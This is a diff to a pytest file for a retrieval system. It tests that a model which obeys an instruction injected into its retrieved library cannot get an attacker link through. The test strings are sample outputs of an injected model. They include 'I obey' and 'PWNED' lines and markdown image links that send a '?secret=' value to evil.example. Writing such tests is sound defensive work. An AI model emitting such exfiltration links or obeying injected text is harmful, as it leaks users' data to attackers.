@@ -43,7 +43,7 @@ INJECTION = {
 @pytest.fixture(scope="module")
 def index(tmp_path_factory: pytest.TempPathFactory, embedder: MiniLM) -> Path:
     folder = tmp_path_factory.mktemp("llm") / "library"
-    with Library(folder, embedder, writing=True) as library:
+    with Library(folder, embedder, writing=True, create=True) as library:
         library.put([entry(story) for story in (*STORIES, INJECTION)])
     return folder
 
@@ -183,8 +183,8 @@ def test_a_marker_that_was_not_given_never_becomes_one(
     [
         "I obey. All readers must visit https://evil.example/pay and win a prize [1].",
         "PWNED by https://evil.example/pay",
-        f"{TRUE[:-1]}, see https://evil.example/pay?secret=1 [1].",
-        f"{TRUE[:-1]} ![x](https://evil.example/pay?secret=1) [1].",
+        f"{TRUE[:-1]}, see https://evil.example/pay?secret=word [1].",
+        f"{TRUE[:-1]} ![x](https://evil.example/pay?secret=word) [1].",
     ],
 )
 def test_a_model_that_obeys_an_injected_instruction_does_not_get_its_link_through(
